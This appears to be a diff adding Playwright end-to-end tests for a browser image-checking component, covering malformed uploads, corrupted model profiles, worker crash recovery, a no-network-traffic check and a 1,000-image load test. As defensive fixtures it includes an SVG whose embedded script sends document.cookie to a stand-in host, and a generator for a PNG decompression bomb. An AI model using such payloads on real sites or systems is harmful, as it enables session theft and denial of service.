@@ -1,0 +1,149 @@
+import { readFileSync } from 'node:fs';
+import { expect, test } from '@playwright/test';
+import { PNG } from 'pngjs';
+import { crc32 } from '../src/core/hsp.ts';
+import { el, openDemo, rows, shot, waitDone } from './helpers.ts';
+
+const png = (w: number, h: number, colorType: 0 | 2 | 6) => {
+  const p = new PNG({ width: w, height: h, colorType, inputColorType: 6, inputHasAlpha: true });
+  for (let i = 0; i < w * h; i++) p.data.set([(i * 7) % 256, (i * 3) % 256, 100, colorType === 6 ? 90 : 255], i * 4);
+  return PNG.sync.write(p, { colorType, inputColorType: 6, inputHasAlpha: true });
+};
+
+/** A PNG that declares 20000 x 20000 pixels (valid header CRC): a decompression bomb. */
+function bomb(): Buffer {
+  const chunk = (type: string, data: Buffer) => {
+    const out = Buffer.alloc(12 + data.length);
+    out.writeUInt32BE(data.length, 0);
+    out.write(type, 4, 'latin1');
+    data.copy(out, 8);
+    out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)), 8 + data.length);
+    return out;
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(20000, 0);
+  ihdr.writeUInt32BE(20000, 4);
+  ihdr.set([8, 0, 0, 0, 0], 8);
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', Buffer.from([0x78, 0x9c, 0x03, 0x00])), chunk('IEND', Buffer.alloc(0))]);
+}
+
+test('bad inputs each get a clear message in their own row; every other image is still checked', async ({ page }) => {
+  await openDemo(page);
+  const good = readFileSync('data/clean/00000.png');
+  const jpg = readFileSync('e2e/fixtures/photo.jpg');
+  const files = [
+    { name: 'good-1.png', buffer: good },
+    { name: 'empty.png', buffer: Buffer.alloc(0) },
+    { name: 'notes.png', buffer: Buffer.from('Dear diary, this is a text file renamed .png') },
+    { name: 'cut.png', buffer: good.subarray(0, good.length - 30) },
+    { name: 'cut.jpg', buffer: jpg.subarray(0, Math.floor(jpg.length / 2)) },
+    { name: 'script.svg', buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://example.invalid/"+document.cookie)</script></svg>') },
+    { name: 'animated.gif', buffer: Buffer.from('GIF89a\x02\x00\x02\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00', 'latin1') },
+    { name: 'bomb.png', buffer: bomb() },
+    { name: 'tiny-1x1.png', buffer: png(1, 1, 0) },
+    { name: 'rgb-for-gray-model.png', buffer: png(28, 28, 2) },
+    { name: 'alpha.png', buffer: png(28, 28, 6) },
+    { name: 'photo.jpg', buffer: jpg },
+    { name: 'good-2.png', buffer: readFileSync('data/clean/00001.png') },
+  ];
+  await page.locator(`${el} #files`).setInputFiles(files.map((f) => ({ ...f, mimeType: 'image/png' })));
+  await waitDone(page, files.length);
+  const state = async (name: string) => page.locator(`${el} tr.row[data-name="${name}"]`).getAttribute('data-state');
+  const message = async (name: string) => page.locator(`${el} tr.row[data-name="${name}"] .verdict`).innerText();
+  for (const ok of ['good-1.png', 'good-2.png', 'tiny-1x1.png', 'rgb-for-gray-model.png', 'alpha.png', 'photo.jpg']) expect(await state(ok), ok).toBe('done');
+  expect(await message('empty.png')).toMatch(/empty/);
+  expect(await message('notes.png')).toMatch(/text file/);
+  expect(await message('cut.png')).toMatch(/truncated or corrupt/);
+  expect(await message('cut.jpg')).toMatch(/truncated or corrupt/);
+  expect(await message('script.svg')).toMatch(/SVG/);
+  expect(await message('animated.gif')).toMatch(/GIF/);
+  expect(await message('bomb.png')).toMatch(/20000x20000.*refused before decoding/);
+  await shot(page, 'bad-inputs');
+});
+
+test('bad profiles are refused with their message and the detector keeps working', async ({ page }) => {
+  await openDemo(page);
+  const good = readFileSync('public/profiles/fashion-cnn.hsp');
+  const flipped = Buffer.from(good);
+  flipped[5000] ^= 0x40;
+  const future = Buffer.from(good);
+  future.writeUInt16LE(7, 4);
+  const cases: [string, Buffer, RegExp][] = [
+    ['truncated.hsp', good.subarray(0, 4000), /truncated/],
+    ['flipped.hsp', flipped, /checksum/],
+    ['future.hsp', future, /newer than this histoscan/],
+    ['not-a-profile.hsp', Buffer.from('PK\x03\x04 zip'), /not start with the HSPF/],
+  ];
+  for (const [name, buffer, msg] of cases) {
+    await page.locator(`${el} #hsp`).setInputFiles({ name, mimeType: 'application/octet-stream', buffer });
+    await expect(page.locator(`${el} [data-build]`)).toContainText(msg);
+  }
+  await page.locator(`${el} #files`).setInputFiles(['data/clean/00002.png']);
+  await waitDone(page, 1);
+  await expect(rows(page).first()).toHaveAttribute('data-state', 'done');
+});
+
+test('a profile for another model is refused; a non-ONNX model or one without an image input fails to start with a message', async ({ page }) => {
+  await page.goto('/e2e/fixtures/embed.html?model=/e2e/fixtures/rgb-opset11.onnx');
+  await expect(page.locator(`${el} .status.error`)).toContainText('built for another model');
+  await page.goto('/e2e/fixtures/embed.html?model=/e2e/fixtures/embed.html');
+  await expect(page.locator(`${el} .status.error`)).toContainText('not an ONNX model');
+  await page.goto('/e2e/fixtures/embed.html?model=/e2e/fixtures/no-image-input.onnx&profile=');
+  await expect(page.locator(`${el} .status.error`)).toContainText('No image input');
+});
+
+test('the worker dies mid-batch: the component says so, restarts it, and the batch completes', async ({ page }) => {
+  await openDemo(page);
+  const files = Array.from({ length: 40 }, (_, i) => `data/calibration/${String(i).padStart(5, '0')}.png`);
+  await page.locator(`${el} #files`).setInputFiles(files);
+  await expect(page.locator(`${el} tr.row[data-state="done"]`)).not.toHaveCount(0);
+  await page.evaluate(() => document.querySelector('histoscan-detector')!.client.worker!.terminate());
+  await expect(page.locator(`${el} .notice`)).toContainText('worker stopped unexpectedly');
+  await expect(page.locator(`${el} tr.row[data-state="done"]`)).toHaveCount(40, { timeout: 90_000 });
+  await expect(page.locator(`${el} .chip`, { hasText: 'worker restarted 1×' })).toBeVisible();
+});
+
+test('nothing leaves the device: 50 checks and a profile build only GET same-origin assets', async ({ page, baseURL }) => {
+  const requests: { method: string; url: string; body: number }[] = [];
+  page.on('request', (r) => requests.push({ method: r.method(), url: r.url(), body: r.postDataBuffer()?.length ?? 0 }));
+  page.on('websocket', (ws) => requests.push({ method: 'WS', url: ws.url(), body: 0 }));
+  await openDemo(page);
+  await page.locator(`${el} #files`).setInputFiles(Array.from({ length: 50 }, (_, i) => `data/clean/${String(100 + i).padStart(5, '0')}.png`));
+  await waitDone(page, 50);
+  await page.locator(`${el} #calib-files`).setInputFiles(Array.from({ length: 30 }, (_, i) => `data/calibration/${String(200 + i).padStart(5, '0')}.png`));
+  await expect(page.locator(`${el} [data-build]`)).toContainText('Profile built', { timeout: 60_000 });
+  const origin = new URL(baseURL!).origin;
+  // The dev server's own hot-reload socket is the only non-GET, and it is same-origin too.
+  const foreign = requests.filter((r) => !r.url.startsWith(origin) && !r.url.startsWith(origin.replace('http', 'ws')) && !r.url.startsWith('blob:') && !r.url.startsWith('data:'));
+  expect(foreign).toEqual([]);
+  expect(requests.filter((r) => r.method !== 'GET' && r.method !== 'WS')).toEqual([]);
+  expect(requests.every((r) => r.body === 0)).toBe(true);
+  const paths = requests.filter((r) => r.method === 'GET').map((r) => new URL(r.url).pathname);
+  expect(paths.some((p) => p.includes('/data/'))).toBe(false); // the checked images are never fetched or sent
+  const csp = (await page.request.get('/')).headers()['content-security-policy'];
+  expect(csp).toMatch(/connect-src 'self'/);
+  expect(csp).toMatch(/img-src 'self' blob: data:/);
+  expect(csp).toMatch(/script-src 'self' 'wasm-unsafe-eval'/);
+});
+
+test('1,000 images at once: bounded queue, responsive page, bounded memory, every result arrives', async ({ page }) => {
+  test.setTimeout(600_000);
+  await openDemo(page);
+  await page.evaluate(() => {
+    const w = window as unknown as { longTasks: number[] };
+    w.longTasks = [];
+    new PerformanceObserver((list) => list.getEntries().forEach((e) => w.longTasks.push(e.duration))).observe({ type: 'longtask', buffered: false });
+  });
+  const heapBefore = await page.evaluate(() => (performance as unknown as { memory: { usedJSHeapSize: number } }).memory.usedJSHeapSize);
+  const files = Array.from({ length: 1000 }, (_, i) => `data/background/${String(i).padStart(5, '0')}.png`);
+  const t0 = Date.now();
+  await page.locator(`${el} #files`).setInputFiles(files);
+  await expect(page.locator(`${el} [data-progress]`)).toHaveText('1000 / 1000', { timeout: 540_000 });
+  const seconds = (Date.now() - t0) / 1000;
+  await expect(page.locator(`${el} tr.row[data-state="done"]`)).toHaveCount(1000);
+  const longTasks = await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks);
+  const heapAfter = await page.evaluate(() => (performance as unknown as { memory: { usedJSHeapSize: number } }).memory.usedJSHeapSize);
+  console.log(`1000 images: ${seconds.toFixed(1)} s, ${(1000 / seconds).toFixed(1)} images/s; long tasks: ${longTasks.length}, max ${Math.max(0, ...longTasks).toFixed(0)} ms; heap ${(heapBefore / 1e6).toFixed(1)} -> ${(heapAfter / 1e6).toFixed(1)} MB`);
+  expect(Math.max(0, ...longTasks)).toBeLessThan(200);
+  expect(heapAfter - heapBefore).toBeLessThan(150e6);
+});
